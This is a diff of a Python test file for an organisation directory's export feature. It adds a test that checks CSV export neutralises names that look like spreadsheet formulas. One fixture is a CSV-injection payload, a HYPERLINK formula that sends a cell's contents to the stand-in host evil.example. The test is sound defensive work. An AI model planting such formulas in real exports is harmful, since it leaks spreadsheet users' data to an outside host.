@@ -142,4 +142,24 @@ def test_directory_queries_do_not_grow_with_the_organisations(client, directory,
     assert "200 organisations" in response.content.decode()
 
     assert many == few
-    assert few <= 20
+    assert few <= 21  # 21 since the footer reads the site's settings for the privacy notice
+
+
+@pytest.mark.parametrize("language", ["en", "fr"])
+def test_export_shows_a_name_that_looks_like_a_formula_as_text(
+    client, directory, en, fr, translate, language
+):
+    translate(directory, fr, {"Members and partners": "Membres et partenaires"})
+    OrganisationFactory(name="=1+1", locale=en)
+    OrganisationFactory(name='=HYPERLINK("http://evil.example/?d="&A2,"Open")', locale=en)
+    url = f"/{language}/get-involved/members-and-partners/"
+
+    rows = list(csv.DictReader(io.StringIO(client.get(url, {"format": "csv"}).content.decode())))
+
+    assert [row["name"] for row in rows] == [
+        "'=1+1",
+        """'=HYPERLINK("http://evil.example/?d="&A2,"Open")""",
+    ]
+    # JSON is read by programs, not spreadsheets: the name stays as it is.
+    data = client.get(url, {"format": "json"}).json()
+    assert data["organisations"][0]["name"] == "=1+1"
